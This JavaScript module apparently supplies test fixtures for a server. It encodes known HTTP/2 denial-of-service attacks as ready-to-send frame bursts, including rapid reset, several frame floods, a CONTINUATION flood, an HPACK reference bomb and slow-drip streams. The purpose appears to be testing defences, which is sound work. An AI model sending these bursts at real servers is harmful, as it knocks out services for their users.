/**
 * What clients of HTTP/2 send that cost more than they are worth: the attacks that are known of the protocol, each as what is sent
 * at once, again and again.
 */
import {
  ACK,
  block,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  PING,
  PRIORITY,
  RST_STREAM,
  request,
  settings,
  uint32,
  WINDOW_UPDATE,
} from '../http2-frames.mjs';

/**
 * @typedef {object} Attack
 * @property {string} name
 * @property {boolean} isFlood its connection is ended for what it sends; else for what it waits for, or once it asks no more
 * @property {boolean} isPatient it sends one burst, and nothing behind it
 * @property {readonly (readonly [id: number, value: number])[]} settings
 * @property {(round: number) => Buffer} burst
 */

/** The routes of http2-attacks.mjs: answered at once, not at all, and with a large body. */
export const SILENT = '/silent/';
export const LARGE = '/large/';

const STREAMS_AT_ONCE = 20;
const STREAMS_HELD = 100;
const CANCEL = uint32(8);
const HEAD_AND_END = END_HEADERS | END_STREAM;
/** As large as the table may be, with its 32 bytes and its name (RFC 7541 §4.1). */
const LARGE_VALUE_BYTES = 4_000;
const REFERENCES = 4_000;

const get = (path, id) => frame(HEADERS, HEAD_AND_END, id, block(request(path)));
const post = (path, id, fields = []) =>
  frame(HEADERS, END_HEADERS, id, block(request(path, { method: 'POST', fields })));

const many = (one, count = 200) => Buffer.concat(Array.from({ length: count }, () => one));
const streams = (count, first, of) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => of(2 * (first + index) + 1)));

/** @returns {Attack} */
function flood(name, burst) {
  return { name, isFlood: true, isPatient: false, settings: [], burst };
}

/** On streams of its own. @param of the frames of one */
function streamFlood(name, of) {
  return flood(name, (round) => streams(STREAMS_AT_ONCE, round * STREAMS_AT_ONCE, of));
}

/** Behind the head of a request that is never whole. */
function bodyFlood(name, one) {
  return flood(name, (round) => (round === 0 ? post(SILENT, 1) : many(one)));
}

/** @returns {Attack} */
function wait(name, burst, settingsOfIt = []) {
  return { name, isFlood: false, isPatient: true, settings: settingsOfIt, burst };
}

/** A literal with incremental indexing, whose value needs three bytes for its length (RFC 7541 §5.1). */
const LARGE_FIELD = Buffer.concat([
  Buffer.of(0x40, 1, 0x61, 0x7f),
  Buffer.of(((LARGE_VALUE_BYTES - 127) & 0x7f) | 0x80, (LARGE_VALUE_BYTES - 127) >>> 7),
  Buffer.alloc(LARGE_VALUE_BYTES, 'x'),
]);
const BOMB = Buffer.concat([block(request('/')), LARGE_FIELD, Buffer.alloc(REFERENCES, 0x80 | 62)]);

/** @type {readonly Attack[]} */
export const ATTACKS = [
  streamFlood('rapid reset', (id) =>
    Buffer.concat([get(SILENT, id), frame(RST_STREAM, 0, id, CANCEL)]),
  ),
  streamFlood('streams that we are made to reset', (id) =>
    Buffer.concat([get(SILENT, id), frame(WINDOW_UPDATE, 0, id, uint32(0))]),
  ),
  streamFlood('bodies longer than they say', (id) =>
    Buffer.concat([
      post(SILENT, id, [['content-length', '1']]),
      frame(DATA, 0, id, Buffer.from('ab')),
    ]),
  ),
  flood('SETTINGS', () => many(settings([[INITIAL_WINDOW_SIZE, 65_535]]))),
  flood('PING', () => many(frame(PING, 0, 0, Buffer.alloc(8)))),
  flood('answers to no PING', () => many(frame(PING, ACK, 0, Buffer.alloc(8)))),
  flood('PRIORITY', () => many(frame(PRIORITY, 0, 3, Buffer.of(0, 0, 0, 0, 1)))),
  flood('WINDOW_UPDATE', () => many(frame(WINDOW_UPDATE, 0, 0, uint32(1)))),
  flood('unknown frames', () => many(frame(77, 0, 0))),
  bodyFlood('empty DATA', frame(DATA, 0, 1)),
  bodyFlood('DATA of one byte', frame(DATA, 0, 1, Buffer.of(97))),
  flood('CONTINUATION', (round) =>
    round === 0
      ? frame(HEADERS, END_STREAM, 1, block(request('/')))
      : many(frame(CONTINUATION, 0, 1, block([['a', 'b']])), 20),
  ),
  {
    name: 'references to a large field',
    // Each is answered 431: nobody is hurt who asks so.
    isFlood: false,
    isPatient: false,
    settings: [],
    burst: (round) =>
      streams(STREAMS_AT_ONCE, round * STREAMS_AT_ONCE, (id) =>
        frame(HEADERS, HEAD_AND_END, id, BOMB),
      ),
  },
  wait('a head that never ends', () => frame(HEADERS, END_STREAM, 1, block(request('/')))),
  wait('bodies that never end', () => streams(STREAMS_HELD, 0, (id) => post('/', id))),
  wait('windows that never open', () => streams(STREAMS_HELD, 0, (id) => get(LARGE, id)), [
    [INITIAL_WINDOW_SIZE, 0],
  ]),
];
